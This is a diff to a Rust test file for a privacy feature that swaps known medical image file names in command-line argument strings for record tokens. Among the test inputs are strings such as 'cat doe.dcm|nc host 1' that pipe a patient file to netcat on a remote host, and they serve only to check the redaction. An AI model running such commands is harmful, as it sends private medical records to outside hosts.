@@ -134,6 +134,13 @@ fn arguments_relative_to_a_directory_in_a_store() {
         ("ward", "../../store/doe.dcm", "../../store/doe.dcm"),
         ("", "file=@/elsewhere/doe.dcm", "file=@/elsewhere/doe.dcm"),
         ("", ".", "."),
+        ("", "-odoe.dcm", "-o<doe.dcm>"),
+        ("", "cat doe.dcm|nc host 1", "cat <doe.dcm>|nc host 1"),
+        (
+            "",
+            "cat 'doe.dcm' ward/roe.dcm",
+            "cat '<doe.dcm>' <ward/roe.dcm>",
+        ),
         ("", "-", "-"),
         ("", "-czf", "-czf"),
         ("", "10.0.0.2", "10.0.0.2"),
@@ -148,12 +155,31 @@ fn arguments_relative_to_a_directory_in_a_store() {
 }
 
 #[test]
-fn a_known_name_is_replaced_by_the_token_of_the_record() {
+fn known_file_names_are_replaced_by_the_token_of_the_record() {
     let privacy = privacy();
-    let shown = privacy
-        .known_name("file=@doe.dcm", "doe.dcm", b"ward/doe.dcm")
-        .unwrap();
-    assert_eq!(shown, expected(&privacy, "file=@<ward/doe.dcm>"));
+    let known = |name: &str| match name {
+        "doe.dcm" => Some(&b"ward/doe.dcm"[..]),
+        "roe j.dcm" => Some(&b"ward/roe j.dcm"[..]),
+        _ => None,
+    };
+    for (text, expect) in [
+        ("doe.dcm", "<ward/doe.dcm>"),
+        ("file=@doe.dcm", "file=@<ward/doe.dcm>"),
+        ("/tmp/roe j.dcm", "/tmp/<ward/roe j.dcm>"),
+        (
+            "cd /x && cat doe.dcm|nc h 1",
+            "cd /x && cat <ward/doe.dcm>|nc h 1",
+        ),
+    ] {
+        assert_eq!(
+            privacy.known_names(text, known),
+            Some(expected(&privacy, expect)),
+            "{text}"
+        );
+    }
+    for text in ["", "doe.dcm.gz", "token:doe.dcm", "mydoe.dcm", "cat x"] {
+        assert_eq!(privacy.known_names(text, known), None, "{text}");
+    }
 }
 
 #[test]
